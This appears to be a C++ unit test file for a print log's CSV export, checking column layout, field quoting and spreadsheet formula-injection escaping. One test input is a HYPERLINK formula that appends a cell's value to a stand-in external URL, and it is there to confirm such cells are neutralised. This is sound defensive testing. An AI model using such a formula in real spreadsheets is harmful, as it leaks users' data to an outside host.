#include "log/LogCsv.h"

#include "LogTestSupport.h"
#include "support/Files.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QProcess>

namespace {

// The file's rows as a spreadsheet reader sees them (Python's csv module).
QJsonArray csvRows(const QString& path) {
    QProcess python;
    python.start("python3",
                 {"-c",
                  "import csv, json, sys\n"
                  "rows = list(csv.reader(open(sys.argv[1], encoding='utf-8', newline='')))\n"
                  "print(json.dumps(rows))",
                  path});
    EXPECT_TRUE(python.waitForFinished(30000));
    EXPECT_EQ(python.exitCode(), 0) << python.readAllStandardError().toStdString();
    return QJsonDocument::fromJson(python.readAllStandardOutput()).array();
}

} // namespace

TEST_F(LogTest, CsvExportKeepsTheLayoutAndEveryRowInItsOrder) {
    auto log = makeLog();
    log->setLogFields("7-2026-12-05 09:00:07", {{"Server", "printhost"},
                                                {"Queue", "Office"},
                                                {"Description", "Report, final.doc"},
                                                {"Computer", "ws12"},
                                                {"User", "ann"},
                                                {"Pages", "3"},
                                                {"Priority", "1"},
                                                {"Size", "2048"},
                                                {"Time Submitted", "2026-12-05 09:00:07"},
                                                {"Name", "7"},
                                                {"Resumed", "2026-12-05 09:10:00"},
                                                {"Printed Pages", "3"},
                                                {"SWR Computer", "desk"},
                                                {"SWR User", "op"}});
    // A row made by a log comment alone.
    log->setLogFields("comment-1",
                      {{"SWR Computer", "desk"}, {"SWR User", "op"}, {"Comments", "checked"}});
    const QString path = inFolder("SWR_Log.csv");
    ASSERT_TRUE(WriteLogCsv(*log, path));
    EXPECT_EQ(readFile(path),
              QByteArray(kLogCsvHeader) +
                  "\r\n"
                  "printhost,Office,'Report final.doc',ws12,ann,3,1,2048,2026-12-05 09:00:07,"
                  "2026,12,5,7,,2026-12-05 09:10:00,,3,desk,op,\r\n"
                  ",,'',,,,,,,,,,,,,,,desk,op,checked\r\n"
                  "\r\n");

    // A log that cannot be had gives the header alone.
    context.logPath = inFolder("missing/folder");
    auto unavailable = makeLog(inFolder("no-template"));
    EXPECT_EQ(logCsvText(*unavailable), QByteArray(kLogCsvHeader) + "\r\n\r\n");
}

TEST_F(LogTest, CsvFieldsWithCommasQuotesAndLineBreaksStayInTheirColumns) {
    auto log = makeLog();
    const QString comment = QString::fromUtf8("Sent back, \"wrong tray\"\r\nasked Zoë");
    log->setLogFields("1-x", {{"Server", "print,host"},
                              {"Description", "Memo \"draft\", v2"},
                              {"User", "ann"},
                              {"Time Submitted", "2026-01-02 03:04:05"},
                              {"Comments", comment}});
    const QString path = inFolder("SWR_Log.csv");
    ASSERT_TRUE(WriteLogCsv(*log, path));

    const QJsonArray rows = csvRows(path);
    ASSERT_EQ(rows.size(), 3); // header, the row, the empty last line
    const QJsonArray row = rows[1].toArray();
    ASSERT_EQ(row.size(), 20);
    EXPECT_EQ(row[0].toString(), "print,host");
    EXPECT_EQ(row[2].toString(), "'Memo \"draft\" v2'");
    EXPECT_EQ(row[4].toString(), "ann");
    EXPECT_EQ(row[9].toString(), "2026");
    EXPECT_EQ(row[10].toString(), "1");
    EXPECT_EQ(row[11].toString(), "2");
    EXPECT_EQ(row[19].toString(), comment);
    EXPECT_TRUE(rows[2].toArray().isEmpty());
}

TEST_F(LogTest, CsvCellsThatASpreadsheetWouldTakeForAFormulaStartWithAQuote) {
    auto log = makeLog();
    log->setLogFields("1-x", {{"Server", "+print"},
                              {"Queue", "-Office"},
                              {"Description", "=1+1"},
                              {"Computer", "@SUM(A1)"},
                              {"User", "=HYPERLINK(\"http://x.example/?\"&A1,\"Error\")"},
                              {"Pages", "3"},
                              {"SWR Computer", "\tdesk"},
                              {"SWR User", "\r=op"},
                              {"Comments", "a=b -c +d @e"}});
    const QString path = inFolder("SWR_Log.csv");
    ASSERT_TRUE(WriteLogCsv(*log, path));
    const QJsonArray rows = csvRows(path);
    ASSERT_EQ(rows.size(), 3);
    const QJsonArray row = rows[1].toArray();
    ASSERT_EQ(row.size(), 20);
    EXPECT_EQ(row[0].toString(), "'+print");
    EXPECT_EQ(row[1].toString(), "'-Office");
    EXPECT_EQ(row[2].toString(), "'=1+1'"); // quoted as it always was
    EXPECT_EQ(row[3].toString(), "'@SUM(A1)");
    EXPECT_EQ(row[4].toString(), "'=HYPERLINK(\"http://x.example/?\"&A1,\"Error\")");
    EXPECT_EQ(row[5].toString(), "3");
    EXPECT_EQ(row[17].toString(), "'\tdesk");
    EXPECT_EQ(row[18].toString(), "'\r=op");
    EXPECT_EQ(row[19].toString(), "a=b -c +d @e"); // only a cell's first character counts
}
